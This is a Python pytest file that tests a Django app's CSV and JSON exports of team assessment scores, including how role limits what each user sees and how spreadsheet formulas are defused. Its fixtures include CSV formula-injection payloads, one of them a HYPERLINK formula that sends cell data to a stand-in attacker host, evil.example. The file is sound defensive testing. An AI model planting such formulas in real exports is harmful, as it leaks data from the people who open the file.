"""CSV and JSON exports: the contract, byte for byte, scoped by role."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from assessments.periods import Quarter
from assessments.services import assessment_start
from catalogue.models import Question
from organizations.models import Team
from tests.conftest import submit

CODES = [f"{d}-{n}" for d in ("VO", "CX", "AO", "MP") for n in range(1, 6)]


@pytest.fixture
def known(model_v0, team_a, team_b, lead_a, lead_b):
    """Two teams, one quarter each, notes that need quoting and defusing."""
    a = submit(
        team_a,
        lead_a,
        Quarter(2026, 3),
        dict(zip(CODES, [1, 2, 3, 4, 5] * 4, strict=True)),
        {
            "VO-1": 'Says "value", means features',
            "CX-2": '=HYPERLINK("http://x")',
            "MP-5": "line one\nline two",
        },
    )
    b = submit(team_b, lead_b, Quarter(2026, 2), 3, {"AO-3": "@risk"})
    assessment_start(team=team_a, period=Quarter(2026, 4), user=lead_a)  # a draft: never exported
    return a, b


def expected_csv() -> str:
    """Lines end in CRLF (RFC 4180); a line break inside a quoted note stays a bare LF."""
    header = "organization,team,year,quarter,model_version,question,score,note\r\n"
    rows_a = []
    for code, score in zip(CODES, [1, 2, 3, 4, 5] * 4, strict=True):
        note = {
            "VO-1": '"Says ""value"", means features"',
            "CX-2": '"\'=HYPERLINK(""http://x"")"',
            "MP-5": '"line one\nline two"',
        }.get(code, "")
        rows_a.append(f"Acme Corp,Enterprise Onboarding,2026,3,v0,{code},{score},{note}\r\n")
    smb_notes = {"AO-3": "'@risk"}
    rows_b = [
        f"Acme Corp,SMB Onboarding,2026,2,v0,{code},3,{smb_notes.get(code, '')}\r\n"
        for code in CODES
    ]
    return header + "".join(rows_a) + "".join(rows_b)


def test_organization_csv_matches_the_contract_byte_for_byte(client, admin_user, known):
    client.force_login(admin_user)
    response = client.get(reverse("assessments:export-csv", args=["acme"]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="acme-onboarding-maturity.csv"'
    assert b"".join(response.streaming_content).decode() == expected_csv()


def test_formulas_are_defused(client, admin_user, known):
    client.force_login(admin_user)
    body = b"".join(client.get(reverse("assessments:export-csv", args=["acme"])).streaming_content)
    assert b",'=HYPERLINK" in body.replace(b'"', b"")
    assert b",'@risk" in body


def test_a_team_lead_exports_only_their_own_teams_rows(client, lead_b, known):
    client.force_login(lead_b)
    body = b"".join(
        client.get(reverse("assessments:export-csv", args=["acme"])).streaming_content
    ).decode()
    assert "SMB Onboarding" in body
    assert "Enterprise Onboarding" not in body
    assert len(body.splitlines()) == 21


def test_the_command_writes_the_same_csv(known):
    out = io.StringIO()
    call_command("export_assessments", "--organization", "acme", stdout=out)
    assert out.getvalue() == expected_csv()


def test_the_command_refuses_an_unknown_organization(known):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="No organization with slug 'nope'"):
        call_command("export_assessments", "--organization", "nope", stdout=io.StringIO())


def test_json_export_matches_the_contract(client, consultant, known):
    a, _ = known
    client.force_login(consultant)
    response = client.get(reverse("assessments:export-json", args=[a.pk]))
    assert response["Content-Disposition"].endswith(
        'acme-corp-enterprise-onboarding-2026Q3-onboarding-maturity.json"'
    )
    document = response.json()
    assert {
        k: document[k]
        for k in ("organization", "team", "year", "quarter", "model_version", "status")
    } == {
        "organization": "Acme Corp",
        "team": "Enterprise Onboarding",
        "year": 2026,
        "quarter": 3,
        "model_version": "v0",
        "status": "submitted",
    }
    assert document["dimensions"] == [
        {"code": code, "name": name, "total": 15, "max_total": 25, "band": "Room for improvement"}
        for code, name in [
            ("VO", "Value Orientation"),
            ("CX", "CX & Delivery"),
            ("AO", "Adaptability & Organization"),
            ("MP", "Manageability & Productivity"),
        ]
    ]
    assert (document["overall_total"], document["max_overall"]) == (60, 100)
    # A lead alone is the one response: no spread, and the agreed score is their own.
    assert document["answers"][0] == {
        "question": "VO-1",
        "score": 1,
        "note": 'Says "value", means features',
        "spread": 0,
        "median": 1.0,
        "distribution": {"1": 1},
        "agreed_by_lead": False,
        "reason": "",
    }
    assert [answer["question"] for answer in document["answers"]] == CODES


def test_the_json_command_lists_every_submitted_assessment(known):
    out = io.StringIO()
    call_command("export_assessments", "--format", "json", stdout=out)
    documents = json.loads(out.getvalue())
    assert [(d["team"], d["year"], d["quarter"]) for d in documents] == [
        ("Enterprise Onboarding", 2026, 3),
        ("SMB Onboarding", 2026, 2),
    ]
    assert documents[1]["overall_total"] == 60


# Every start a spreadsheet runs as a formula; spelled out here, not imported from the code.
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def exported_rows(client) -> list[list[str]]:
    response = client.get(reverse("assessments:export-csv", args=["acme"]))
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_every_formula_start_is_defused_in_notes_and_names(
    client, admin_user, model_v0, acme, lead_a, prefix
):
    # Each value holds a comma or a quote, so it is quoted whatever it starts with (a bare "\r"
    # in an unquoted field: see the next test).
    team = Team.objects.create(organization=acme, name=f"{prefix}Team, EMEA", slug="formula-team")
    team.leads.add(lead_a)
    note = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click")'
    submit(team, lead_a, Quarter(2026, 3), 3, {"VO-1": note, "CX-2": f"safe, {prefix}inside"})
    client.force_login(admin_user)
    header, *rows = exported_rows(client)
    assert len(rows) == 20
    by_code = {row[5]: row for row in rows}
    assert by_code["VO-1"][7] == "'" + note
    assert by_code["CX-2"][7] == f"safe, {prefix}inside"  # only a leading one is defused
    assert {row[1] for row in rows} == {f"'{prefix}Team, EMEA"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(FORMULA_PREFIXES)), row


def test_a_note_with_a_bare_carriage_return_is_quoted(client, admin_user, model_v0, team_a, lead_a):
    submit(team_a, lead_a, Quarter(2026, 3), 3, {"VO-1": "\rstarts", "CX-2": "in\rside"})
    client.force_login(admin_user)
    header, *rows = exported_rows(client)
    notes = {row[5]: row[7] for row in rows}
    assert (notes["VO-1"], notes["CX-2"]) == ("'\rstarts", "in\rside")


def test_json_export_never_shows_a_questions_new_wording(
    client, consultant, model_v0, team_a, lead_a
):
    assessment = submit(team_a, lead_a, Quarter(2026, 3), 3)
    question = Question.objects.get(dimension__model=model_v0, code="CX-2")
    question.text = "Reworded after submission: do customers co-sign every milestone?"
    question.save()  # as the admin change form does

    client.force_login(consultant)
    response = client.get(reverse("assessments:export-json", args=[assessment.pk]))
    assert response.status_code == 200
    assert "Reworded after submission" not in response.content.decode()
    document = response.json()
    answer = next(a for a in document["answers"] if a["question"] == "CX-2")
    assert answer["score"] == 3
    out = io.StringIO()
    call_command("export_assessments", "--format", "json", stdout=out)
    assert "Reworded after submission" not in out.getvalue()
